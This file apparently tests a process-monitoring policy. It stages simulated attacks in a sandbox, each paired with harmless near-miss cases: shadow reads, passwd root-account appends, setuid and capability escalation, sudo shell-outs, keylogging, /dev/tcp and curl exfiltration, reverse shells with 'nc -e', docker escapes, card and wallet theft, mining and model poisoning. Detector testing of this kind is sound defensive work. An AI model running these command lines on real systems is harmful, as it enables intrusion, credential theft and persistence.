#!/usr/bin/python3 -BS
# SPDX-License-Identifier: BSD-2-Clause
# record: --io all --content 256 --env LD_PRELOAD --env LD_AUDIT
"""Each way through the rules of execray.policy, and something beside it: execray.py CASE DIR."""

import ctypes
import os
import socket

from stage import LIBC, OUTSIDE, CLUSTER, PYTHON, SH
from stage import append, case, check, end, forked, main, near, peek, run, sh, sleeper

NOBODY = 65534
NR_PIVOT_ROOT = 155
CALL = "import socket; socket.create_connection(('%s', %d))"
BASH = os.path.realpath("/bin/bash")
DEV_TCP = f"exec 3<>/dev/tcp/{OUTSIDE}/%d"


def outside(stage, *ports):
    stage.net(OUTSIDE, "10.1.1.1")
    stage.listening = [stage.listener(address, port)
                       for address in (OUTSIDE, "10.1.1.1") for port in ports or (443,)]


def curl(stage, *more):
    """A program at the path of curl that connects; with more, also what comes before."""
    stage.over("/usr", programs=[("bin/curl", PYTHON), *more])


def call(address=OUTSIDE, port=443):
    run("/usr/bin/curl", "-S", "-c", CALL % (address, port))


def become(uid):
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)


def shadow(stage):
    """Nobody's hashes are read."""
    stage.over("/etc", files=[("shadow", "root:*:1::::::\n")])


# account file access

@case("account file access", "hashes read")
def shadow_read(stage):
    shadow(stage)
    run("/bin/cat", "/etc/shadow")


@case("account file access", "accounts changed")
def passwd_appended(stage):
    stage.over("/etc")
    sh("echo 'x::0:0::/:/bin/sh' >>/etc/passwd")


@case("account file access", "accounts changed")
def passwd_replaced(stage):
    stage.over("/etc", files=[("passwd.new", "")])
    sh("mv /etc/passwd.new /etc/passwd")


@near("account file access")
def passwd_read(stage):
    shadow(stage)
    stage.over("/usr", programs=[("sbin/useradd", SH), ("sbin/unix_chkpwd", "/bin/cat")])
    run("/bin/cat", "/etc/passwd")
    run("/usr/sbin/useradd", "-c", "echo x::1:1::/: >>/etc/passwd")
    run("/usr/sbin/unix_chkpwd", "/etc/shadow")
    append("/etc/passwd.bak", flags=os.O_CREAT)


# privilege escalation

@case("privilege escalation", "by the account files")
def root_by_passwd(stage):
    os.chmod(stage.root, 0o777)
    stage.over("/etc")
    os.chmod("/etc/passwd", 0o666)
    forked(lambda: become(NOBODY) or append("/etc/passwd", "x::0:0::/:/bin/sh\n"))
    sh("exit 0")


@case("privilege escalation", "by a capability")
def root_by_capability(_):
    check(LIBC.prctl(8, 1, 0, 0, 0), "PR_SET_KEEPCAPS")
    become(NOBODY)
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    setuid = 1 << 7
    check(LIBC.capset(header, (ctypes.c_uint32 * 6)(setuid, setuid, 0, 0, 0, 0)), "capset")
    os.setresuid(0, 0, 0)


@case("privilege escalation", "by a program in a scratch directory")
def root_by_setuid_copy(stage):
    stage.empty("/var/tmp")
    sh("cp /bin/true /var/tmp/x; chmod 4755 /var/tmp/x")
    forked(lambda: become(NOBODY) or run("/var/tmp/x"))


@near("privilege escalation")
def root_again(stage):
    stage.over("/etc")
    os.seteuid(NOBODY)
    os.seteuid(0)
    append("/etc/passwd", "x::1:1::/:/bin/sh\n")
    sh("exit 0")
    forked(lambda: become(NOBODY) or sh("exit 0"))


# sudo abuse: a program at its path, that runs the rest of its line as it is

def sudo(stage, *more):
    stage.over("/usr", programs=[("bin/sudo", "/usr/bin/env"), *more])


@case("sudo abuse", "password from a script")
def sudo_stdin(stage):
    sudo(stage)
    sh("echo secret | /usr/bin/sudo -S /bin/true")


@case("sudo abuse", "shell out of a program")
def sudo_vim(stage):
    sudo(stage, ("bin/vim.basic", SH))
    run("/usr/bin/sudo", "/usr/bin/vim.basic", "-c", "/bin/sh -c :; :")


@near("sudo abuse")
def sudo_as_meant(stage):
    sudo(stage, ("bin/vim.basic", SH))
    run("/usr/bin/sudo", "-u", "root", "/bin/true")
    sh("echo x | /usr/bin/sudo /bin/cat -S")
    run("/usr/bin/sudo", SH, "-c", "/bin/sh -c :; :")
    run("/usr/bin/vim.basic", "-c", "/bin/sh -c :; :")


# keylogger

def keyboard(stage):
    stage.empty("/dev", "input/event0", "urandom", "null")


@case("keylogger")
def keys_kept(stage):
    keyboard(stage)
    peek("/dev/input/event0")
    append(stage.path("keys"), "h", os.O_CREAT)


@case("keylogger")
def keys_sent(stage):
    outside(stage)
    keyboard(stage)
    peek("/dev/input/event0")
    socket.create_connection((OUTSIDE, 443))


@near("keylogger")
def keys_of_logind(stage):
    stage.over("/usr", programs=[("lib/xorg/Xorg", PYTHON)])
    keyboard(stage)
    log = stage.path("log")
    run("/usr/lib/xorg/Xorg", "-S", "-c", f"open('/dev/input/event0'); open('{log}', 'w')")
    append(log)
    peek("/dev/input/event0")
    peek(log)


# network exfiltration

@case("network exfiltration")
def key_by_curl(stage):
    outside(stage)
    shadow(stage)
    curl(stage)
    sh("cat /etc/shadow")
    call()


@case("network exfiltration")
def key_by_bash(stage):
    outside(stage)
    shadow(stage)
    run(BASH, "-c", "cat /etc/shadow; " + DEV_TCP % 443)


@near("network exfiltration")
def curl_at_home(stage):
    outside(stage)
    shadow(stage)
    curl(stage)
    call()
    sh("cat /etc/shadow")
    call("10.1.1.1")


# dropped script stays or steals

def dropped(stage, script):
    stage.empty("/root", ".ssh/id_rsa")
    stage.over("/etc", dirs=["cron.d", "systemd/system"])
    stage.empty("/tmp")
    sh('printf "%s\\n" "$1" >/tmp/x.sh; sh /tmp/x.sh', script)


@case("dropped script stays or steals", "cron")
def script_and_cron(stage):
    dropped(stage, "echo '* * * * * root :' >/etc/cron.d/x")


@case("dropped script stays or steals", "start of the system")
def script_and_unit(stage):
    dropped(stage, "cp /etc/hostname /etc/systemd/system/x.service")


@case("dropped script stays or steals", "secrets")
def script_and_secrets(stage):
    outside(stage)
    dropped(stage, f"cat /root/.ssh/id_rsa; bash -c '{DEV_TCP % 443}'")


@near("dropped script stays or steals")
def script_that_behaves(stage):
    dropped(stage, "cat /etc/cron.d/* /etc/hostname; cp /etc/hostname /tmp/x.service")
    sh("rm /tmp/x.sh")


@near("dropped script stays or steals")
def script_from_elsewhere(stage):
    path = stage.file("upper/x.sh", "echo : >/etc/cron.d/x\n")
    stage.over("/opt", files=[("x.sh", "echo : >/etc/cron.d/x\n")])
    stage.over("/etc", dirs=["cron.d"])
    run(SH, "/opt/x.sh")
    run("/bin/cat", path)


# container escape

def docker(stage, *argv):
    stage.over("/usr", programs=[("bin/docker", "/bin/true")])
    run("/usr/bin/docker", *argv)


@case("container escape", "privileged container")
def docker_privileged(stage):
    docker(stage, "run", "-it", "--privileged", "debian")


@case("container escape", "privileged container")
def docker_pid_host(stage):
    docker(stage, "run", "--pid", "host", "debian")


@case("container escape", "host mounted")
def docker_root(stage):
    docker(stage, "run", "-v", "/:/host", "debian")


@case("container escape", "host mounted")
def docker_mount(stage):
    docker(stage, "run", "--mount", "type=bind,source=/etc,target=/x", "debian")


@near("container escape")
def docker_as_meant(stage):
    docker(stage, "run", "-v", "/srv/data:/data", "--network", "none", "debian", "ls", "-v")
    run("/usr/bin/docker", "ps", "--no-trunc")
    run("/bin/echo", "docker", "run", "--privileged")


@case("container escape", "service account used")
def token_and_curl(stage):
    stage.net(CLUSTER)
    stage.listening = stage.listener(CLUSTER, 443)
    curl(stage)
    stage.over("/run", files=[("secrets/kubernetes.io/serviceaccount/token", "t")])
    stage.container()
    sh("cat /run/secrets/kubernetes.io/serviceaccount/token")
    call(CLUSTER)


@case("container escape", "cgroup")
def agent(stage):
    stage.file("group/release_agent")
    os.mkdir(stage.path("v1"))
    stage.container()
    # No kernel mounts that: no hierarchy is made, and the try is enough.
    LIBC.mount(b"none", stage.path("v1").encode(), b"cgroup", ctypes.c_ulong(0), b"no such option")
    append(stage.path("group/release_agent"), "/x")


@case("container escape", "files of the host")
def files_of_host(stage):
    stage.container()
    run("/bin/cat", "/proc/1/root/etc/hostname")


@case("container escape", "devices of the host")
def disk_of_host(stage):
    stage.empty("/dev", "sda1", "null")
    stage.container()
    peek("/dev/sda1")


@near("container escape")
def the_same_on_the_host(stage):
    stage.file("group/release_agent")
    stage.empty("/dev", "sda1", "null")
    peek("/dev/sda1")
    append(stage.path("group/release_agent"), "/x")
    run("/bin/cat", "/proc/1/root/etc/hostname")


@near("container escape")
def at_home_in_a_container(stage):
    stage.empty("/dev", "null", "urandom")
    stage.container()
    peek("/dev/urandom")
    peek(f"/proc/{os.getpid()}/cmdline")


# exploitation

@case("exploitation", "memory of another process")
def injected(_):
    child = sleeper()
    os.close(os.open(f"/proc/{child}/mem", os.O_RDWR))
    end(child)


@case("exploitation", "library planted")
def planted(stage):
    stage.empty("/tmp")
    sh("cp $1 /tmp/x.so", os.path.realpath("/lib/x86_64-linux-gnu/libm.so.6"))
    ctypes.CDLL("/tmp/x.so")


@case("exploitation", "library forced")
def forced(_):
    run("/bin/true", env={"LD_PRELOAD": "/tmp/x.so"})


@case("exploitation", "program patched")
def patched(stage):
    stage.over("/usr")
    sh("printf '\\177ELF' >/usr/bin/x")


@case("exploitation", "reverse shell")
def reverse_shell(stage):
    outside(stage)
    link = socket.create_connection((OUTSIDE, 443))
    forked(lambda: os.dup2(link.fileno(), 0) or os.execv(SH, ["sh", "-c", "exit 0"]))


@case("exploitation", "shell that connects")
def dev_tcp(stage):
    outside(stage)
    run(BASH, "-c", DEV_TCP % 443)


@case("exploitation", "listening shell")
def nc_e(stage):
    stage.over("/usr", programs=[("bin/nc", "/bin/true")])
    run("/usr/bin/nc", "-lp", "4444", "-e", "/bin/sh")


@near("exploitation")
def ordinary_work(stage):
    outside(stage)
    stage.over("/usr", programs=[("bin/nc", "/bin/true"), ("bin/dpkg", SH)])
    os.close(os.open("/proc/self/mem", os.O_RDWR))
    run("/usr/bin/nc", "-l", "-p", "4444")
    run("/usr/bin/dpkg", "-c", "printf '\\177ELF' >/usr/bin/x; :")
    sh("printf '#!/bin/sh' >/usr/bin/y; cp /usr/bin/y $1/libx.so", stage.root)
    run(BASH, "-c", "exec 3<>/dev/tcp/10.1.1.1/443")
    socket.create_connection((OUTSIDE, 443))
    sh("exit 0")


# financial data theft

CARD = "4111 1111 1111 1111"


def payments(stage):
    return stage.file("payments.csv", "a;b;c\n")


@case("financial data theft", "packed and taken away")
def data_packed(stage):
    outside(stage)
    curl(stage)
    sh("gzip -c <$1 >$1.gz", payments(stage))
    call()


@case("financial data theft", "memory searched")
def memory_searched(stage):
    outside(stage)
    child = sleeper()
    peek_memory = os.open(f"/proc/{child}/mem", os.O_RDONLY)
    os.close(peek_memory)
    end(child)
    socket.create_connection((OUTSIDE, 443))


@case("financial data theft", "card number written")
def card_shown(stage):
    sh("cat $1; echo $2 >$3", payments(stage), CARD, stage.path("x"))


@case("financial data theft", "wallet taken")
def wallet(stage):
    outside(stage)
    sh("cat $1", stage.file("wallet.dat"))
    socket.create_connection((OUTSIDE, 443))


@case("financial data theft", "mining")
def miner(stage):
    run("/bin/true", "-o", "stratum+tcp://pool.example:3333")


@case("financial data theft", "mining")
def stratum(stage):
    outside(stage, 3333)
    link = socket.create_connection((OUTSIDE, 3333))
    link.sendall(b'{"id": 1, "method": "mining.subscribe", "params": []}\n')


@near("financial data theft")
def books_kept(stage):
    outside(stage)
    curl(stage)
    path = payments(stage)
    sh("cat $1; echo 4111 1111 1111 11119 12345678901234567 >>$1; echo $2 >>$1", path, CARD)
    sh("gzip -c <$1 >$1.gz", stage.file("notes.txt"))
    call("10.1.1.1")
    run("/bin/echo", "stratum")


@near("financial data theft")
def wrong_order(stage):
    outside(stage)
    curl(stage)
    call()
    sh("gzip -c </dev/null >$1.gz; cat $1", payments(stage))


# model theft or poisoning

@case("model theft or poisoning", "model leaves")
def model_leaves(stage):
    outside(stage)
    curl(stage)
    peek(stage.file("m.onnx"))
    call()


@case("model theft or poisoning", "model copied")
def model_replaced(stage):
    stage.over("/opt", files=[("m.pt", "")])
    stage.empty("/tmp", "m.pt")
    sh("mv /tmp/m.pt /opt/m.pt")


@case("model theft or poisoning", "model replaced")
def model_renamed(stage):
    """Both directories on one file system, which is the root."""
    stage.file("tmp/m.pt")
    os.mkdir(stage.path("opt"))
    os.mkdir(stage.path("old"))
    os.chdir(stage.root)
    check(LIBC.syscall(NR_PIVOT_ROOT, b".", b"old"), "pivot_root")
    os.chdir("/")
    os.rename("/tmp/m.pt", "/opt/m.pt")


@case("model theft or poisoning", "code in a model")
def model_runs(stage):
    peek(stage.file("m.pkl"))
    sh("exit 0")


@case("model theft or poisoning", "training data changed")
def data_poisoned(stage):
    stage.file("data/x.csv")
    sh("echo 1,2 >>$1/data/x.csv; echo m >$1/m.pt", stage.root)


@near("model theft or poisoning")
def model_at_home(stage):
    outside(stage)
    curl(stage)
    peek(stage.file("m.onnx"))
    call("10.1.1.1")
    run("/bin/true", stage.file("m.pkl"))
    sh("cat $1/m.onnx >$1/n.onnx", stage.root)
    socket.create_connection((OUTSIDE, 443))


main()
